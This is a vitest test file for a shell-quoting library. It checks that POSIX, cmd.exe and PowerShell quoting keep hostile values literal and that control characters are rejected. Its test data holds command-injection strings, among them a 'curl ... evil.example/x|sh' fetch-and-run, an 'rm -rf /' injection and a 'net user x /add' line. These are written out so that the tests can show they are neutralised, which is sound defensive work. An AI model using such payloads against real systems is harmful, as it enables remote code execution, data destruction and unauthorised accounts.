import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isBundleError } from './errors.ts';
import { hasUnsafeCharacters, inertLine } from '../plain-text.ts';
import { quoteArg, quotePosix, quotePowerShell, quoteWindows } from './shell-quote.ts';

/** What a real POSIX sh makes of `printf '%s\0' <quoted>...`: the words, one per value. */
function shWords(quoted: readonly string[]): string[] {
  const script = quoted.map((q) => `printf '%s\\0' ${q}`).join('\n');
  const out = execFileSync('sh', ['-c', script], { encoding: 'utf8', timeout: 10_000 });
  return out.split('\0').slice(0, -1);
}

/** Issue 12 item 2 and the usual suspects: each must come back from sh as one literal word. */
const HOSTILE = [
  'mail.example.com;curl -s https://evil.example/x|sh;echo',
  '$(id)', '`id`', '${HOME}', "it's", "'; rm -rf / #", '"double"', 'a\\b\\', '\\',
  '*', '?', '[a-z]', '~', '~root', '#comment', 'a&b', 'a|b', 'a>b', 'a<b', '(sub)', '{a,b}', '!1',
  ' lead', 'trail ', 'tab\u00a0nbsp', '-n', '--', '%PATH%', 'é', 'メール.example.jp', '🙂', '',
];

describe('quotePosix', () => {
  it.each([
    ['mail.example.com', 'mail.example.com'],
    ['mail.example.com:465', 'mail.example.com:465'],
    ['/var/MailRoot/server.key', '/var/MailRoot/server.key'],
    ['[2001:db8::1]:465', "'[2001:db8::1]:465'"],
    ['*.example.com', "'*.example.com'"],
    ["it's", "'it'\\''s'"],
    ['', "''"],
    ['a;b', "'a;b'"],
  ])('%j → %s', (value, expected) => {
    expect(quotePosix(value)).toBe(expected);
  });

  it('hostile values come back from sh as the same single word', () => {
    expect(shWords(HOSTILE.map(quotePosix))).toEqual(HOSTILE);
  });

  it('property: any string without control characters survives a real sh round trip', () => {
    expect.hasAssertions();
    // shell metacharacters weighted in, the rest any Unicode code point
    const unit = fc.oneof(fc.constantFrom(...`'"\\$\`*?[]{}()<>;|&!~# =%^`), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }));
    const value = fc.string({ unit, maxLength: 30 }).filter((s) => !hasUnsafeCharacters(s) && s === Buffer.from(s, 'utf8').toString('utf8'));
    fc.assert(
      fc.property(fc.array(value, { minLength: 1, maxLength: 25 }), (values) => {
        expect(shWords(values.map(quotePosix))).toEqual(values);
      }),
      { numRuns: 30 },
    );
  });
});

describe('quoteWindows (cmd.exe, read the same by PowerShell)', () => {
  it.each([
    ['mail.example.com:465', 'mail.example.com:465'],
    ['C:\\MailRoot\\', 'C:\\MailRoot\\'],
    ['C:\\Mail Root\\', '"C:\\Mail Root\\\\"'],
    ['mail.example.com;curl -s https://evil.example/x|sh;echo:465', '"mail.example.com;curl -s https://evil.example/x|sh;echo:465"'],
    ['a&b|c>d<e^f(g)', '"a&b|c>d<e^f(g)"'],
    ['a+b', '"a+b"'],
    ['a,b=c', '"a,b=c"'],
    ['@splat', '"@splat"'],
    ['[2001:db8::1]:465', '"[2001:db8::1]:465"'],
    ['', '""'],
  ])('%j → %s', (value, expected) => {
    expect(quoteWindows(value)).toBe(expected);
  });

  it.each(['%PATH%', '!x!', 'a"b', '$(calc)', '$env:X', 'a`nb', '“x”', '„x', 'a\r\nb', 'a\nnet user x /add', 'a\u0000', 'a\u202eb', 'a\u0085'])(
    'refuses %j (cannot be literal in both cmd.exe and PowerShell)',
    (value) => {
      expect.hasAssertions();
      try {
        quoteWindows(value);
      } catch (e) {
        expect(isBundleError(e, 'BUNDLE_COMMAND_VALUE_INVALID')).toBe(true);
      }
    },
  );

  it('every accepted hostile value is one double-quoted token with nothing either shell expands', () => {
    expect.hasAssertions();
    for (const v of HOSTILE) {
      let q: string;
      try {
        q = quoteWindows(v);
      } catch (e) {
        expect(isBundleError(e, 'BUNDLE_COMMAND_VALUE_INVALID')).toBe(true);
        expect(v).toMatch(/["%!$`]/);
        continue;
      }
      if (q === v) {
        expect(v).toMatch(/^[A-Za-z0-9_.:/\\-]+$/);
      } else {
        expect(q.startsWith('"') && q.endsWith('"')).toBe(true);
        expect(q.slice(1, -1)).not.toMatch(/["%!$`]/);
        // an odd run of backslashes before the closing quote would escape it (MSVC argv rules)
        expect((q.slice(1, -1).match(/\\*$/)?.[0].length ?? 0) % 2).toBe(0);
      }
    }
  });
});

describe('quotePowerShell', () => {
  it.each([
    ['mail.example.com', 'mail.example.com'],
    ["it's", "'it''s'"],
    ['‘smart’', "'‘‘smart’’'"],
    ['$(calc)', "'$(calc)'"],
    ['a;b', "'a;b'"],
  ])('%j → %s', (value, expected) => {
    expect(quotePowerShell(value)).toBe(expected);
  });
});

describe('control characters never pass', () => {
  it.each(['\r', '\n', '\u0000', '\u001b[31m', '\u007f', '\u0085', '\u009b', '\u2028', '\u202e', '\u2066', '\u061c'])('%j', (ch) => {
    expect.hasAssertions();
    for (const quote of [quotePosix, quoteWindows, quotePowerShell, (v: string) => quoteArg('unix', v)]) {
      expect(() => quote(`mail${ch}x`)).toThrow(expect.objectContaining({ code: 'BUNDLE_COMMAND_VALUE_INVALID' }));
    }
    expect(hasUnsafeCharacters(inertLine(`a${ch}b`))).toBe(false);
    expect(inertLine(`a${ch}b`)).toMatch(/^a<U\+[0-9A-F]{4}>/);
  });
});
